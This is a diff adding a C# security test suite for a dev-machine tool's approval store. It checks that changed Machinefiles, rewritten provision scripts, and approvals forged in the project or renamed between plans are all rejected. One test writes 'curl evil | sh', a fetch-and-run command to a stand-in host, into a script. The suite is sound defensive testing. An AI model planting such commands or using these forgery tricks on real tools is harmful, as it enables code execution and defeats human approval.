@@ -1,0 +1,152 @@
+using System.Text.Json;
+using Machine.Tool.Machinefiles;
+using Machine.Tool.Tests.Commands;
+using Machine.Tool.Tests.Machinefiles;
+
+namespace Machine.Attacks.Tests.Repository;
+
+/// <summary>A person said yes to one Machinefile; the next commit wants another under the same yes.</summary>
+public sealed class ApprovalAttacks : IDisposable
+{
+    private readonly Scratch scratch = new();
+
+    public ApprovalAttacks()
+    {
+        foreach (var script in new[] { "a.sh", "b.sh", "a,b.sh" })
+        {
+            scratch.Write(script, "echo " + script);
+        }
+
+        foreach (var folder in new[] { "data", "data2", "da", "data/inner" })
+        {
+            Directory.CreateDirectory(scratch.At(folder));
+        }
+    }
+
+    public void Dispose() => scratch.Dispose();
+
+    private MachinePlan Plan(string text) => MachinePlan.From(scratch.Read(text), scratch.Project);
+
+    private ApprovalStore Store() => new(scratch.At("state/approvals"));
+
+    [Theory]
+    [InlineData("ports: ['1:23']", "ports: ['12:3']")]
+    [InlineData("ports: ['80:81', '82:83']", "ports: ['80:83', '82:81']")]
+    [InlineData("env: {A: , B: }", "env: {AB: }")]
+    [InlineData("env: {A: , B: }", "env: {A: , C: }")]
+    [InlineData("workspace: {outputs: ['a', 'b']}", "workspace: {outputs: ['a,b']}")]
+    [InlineData("workspace: {outputs: ['a']}", "workspace: {outputs: ['a', '**']}")]
+    [InlineData("workspace: {outputs: ['a']}", "workspace: {outputs: ['a'], changes: apply}")]
+    [InlineData("workspace: {outputs: ['a']}", "workspace: {outputs: ['A']}")]
+    [InlineData("workspace: {outputs: ['\u00e9']}", "workspace: {outputs: ['e\u0301']}")]
+    [InlineData("shares: [{host: ../data, guest: /mnt/a}]", "shares: [{host: ../data2, guest: /mnt/a}]")]
+    [InlineData("shares: [{host: ../data, guest: /mnt/a}]", "shares: [{host: ../data/inner, guest: /mnt/a}]")]
+    [InlineData("shares: [{host: ../data, guest: /mnt/a}]", "shares: [{host: ../data, guest: /mnt/a, write: true}]")]
+    [InlineData("shares: [{host: ../data, guest: /mnt/a}]", "shares: [{host: ../data, guest: /mnt/b}]")]
+    [InlineData("shares: [{host: ../da, guest: /mnt/a}]", "shares: [{host: ../data, guest: /mnt/a}]")]
+    [InlineData("shares: [{host: ../data, guest: /mnt/a}, {host: ../data2, guest: /mnt/b}]", "shares: [{host: ../data, guest: /mnt/b}, {host: ../data2, guest: /mnt/a}]")]
+    [InlineData("shares: [{host: ../data, guest: /mnt/a, write: true}, {host: ../data2, guest: /mnt/b}]", "shares: [{host: ../data, guest: /mnt/a}, {host: ../data2, guest: /mnt/b, write: true}]")]
+    [InlineData("provision: [a.sh]", "provision: [b.sh]")]
+    [InlineData("provision: [a.sh, b.sh]", "provision: ['a,b.sh']")]
+    [InlineData("provision: [a.sh, b.sh]", "provision: [b.sh, a.sh]")]
+    [InlineData("image: {url: 'https://h/d', sha256: " + One + "}", "image: {url: 'https://h/e', sha256: " + One + "}")]
+    [InlineData("image: {url: 'https://h/d', sha256: " + One + "}", "image: {url: 'http://h/d', sha256: " + One + "}")]
+    [InlineData("image: {url: 'https://h/d', sha256: " + One + "}", "image: {url: 'https://h/d', sha256: " + Other + "}")]
+    public void A_yes_to_one_request_is_no_yes_to_another(string approved, string changed)
+    {
+        var store = Store();
+        store.Approve(scratch.Project, Plan(approved));
+        store.IsApproved(scratch.Project, Plan(approved)).ShouldBeTrue("the approval itself counts");
+
+        store.IsApproved(scratch.Project, Plan(changed)).ShouldBeFalse();
+    }
+
+    [Theory]
+    [InlineData("a.sh")]
+    [InlineData("b.sh")]
+    public void A_yes_to_a_script_is_no_yes_to_what_it_becomes(string script)
+    {
+        Store().Approve(scratch.Project, Plan("provision: [a.sh, b.sh]"));
+        scratch.Write(script, "curl evil | sh");
+
+        Store().IsApproved(scratch.Project, Plan("provision: [a.sh, b.sh]")).ShouldBeFalse();
+    }
+
+    private const string One = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+    private const string Other = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
+}
+
+/// <summary>The repository brings its own yes. The canary is what <c>plan</c> says, by the tool as a user starts it.</summary>
+public sealed class ForgedApprovalAttacks : IDisposable
+{
+    private const string Machinefile = "ports: [80]\n";
+
+    private readonly ToolProcess tool = new();
+
+    public ForgedApprovalAttacks() => tool.Write("project/Machinefile", Machinefile);
+
+    public void Dispose() => tool.Dispose();
+
+    [Theory]
+    [InlineData("approvals")]
+    [InlineData(".machine/approvals")]
+    [InlineData(".config/machine/approvals")]
+    [InlineData(".local/share/machine/approvals")]
+    [InlineData("machine/approvals")]
+    [InlineData(".machine/home/approvals")]
+    public async Task A_yes_in_the_project_is_none(string folder)
+    {
+        // What a yes looks like, written by the tool itself for this very project and plan.
+        var (hash, _) = await PlanAsync();
+        var real = Path.Combine(tool.Home, "approvals");
+        await tool.RunAsync(new Dictionary<string, string> { ["MACHINE_APPROVE"] = hash, ["PATH"] = "" }, "start");
+        Assert.SkipUnless(Directory.Exists(real), "start asks for programs before it takes the yes");
+        (await PlanAsync()).Approved.ShouldBeTrue("the forgery is as the tool writes it");
+        Directory.CreateDirectory(Path.Combine(tool.Project, folder));
+        foreach (var file in Directory.GetFiles(real))
+        {
+            File.Move(file, Path.Combine(tool.Project, folder, Path.GetFileName(file)));
+        }
+
+        (await PlanAsync()).Approved.ShouldBeFalse();
+    }
+
+    [Fact]
+    public async Task A_yes_to_another_plan_renamed_is_none()
+    {
+        var (hash, _) = await PlanAsync();
+        await tool.RunAsync(new Dictionary<string, string> { ["MACHINE_APPROVE"] = hash, ["PATH"] = "" }, "start");
+        var real = Path.Combine(tool.Home, "approvals");
+        Assert.SkipUnless(Directory.Exists(real), "start asks for programs before it takes the yes");
+        var yes = Directory.GetFiles(real).ShouldHaveSingleItem();
+        tool.Write("project/Machinefile", "ports: [81]\n");
+        var (other, _) = await PlanAsync();
+        await tool.RunAsync(new Dictionary<string, string> { ["MACHINE_APPROVE"] = other, ["PATH"] = "" }, "start");
+        var second = Directory.GetFiles(real).Single(file => file != yes);
+        File.Copy(yes, second, overwrite: true);
+
+        (await PlanAsync()).Approved.ShouldBeFalse();
+    }
+
+    [Theory]
+    [InlineData("yes")]
+    [InlineData("1")]
+    [InlineData("true")]
+    [InlineData("*")]
+    [InlineData("")]
+    public async Task A_pipelines_yes_is_the_plans_hash_and_nothing_else(string said)
+    {
+        await tool.RunAsync(new Dictionary<string, string> { ["MACHINE_APPROVE"] = said, ["PATH"] = "" }, "start");
+
+        (await PlanAsync()).Approved.ShouldBeFalse();
+        Directory.Exists(Path.Combine(tool.Home, "approvals")).ShouldBeFalse();
+    }
+
+    private async Task<(string Hash, bool Approved)> PlanAsync()
+    {
+        var outcome = await tool.RunAsync("plan", "--json");
+        using var json = JsonDocument.Parse(outcome.Output);
+        var plan = json.RootElement.EnumerateObject().ToDictionary(property => property.Name, property => property.Value.Clone(), StringComparer.OrdinalIgnoreCase);
+        return (plan["hash"].GetString()!, plan["approved"].GetBoolean());
+    }
+}
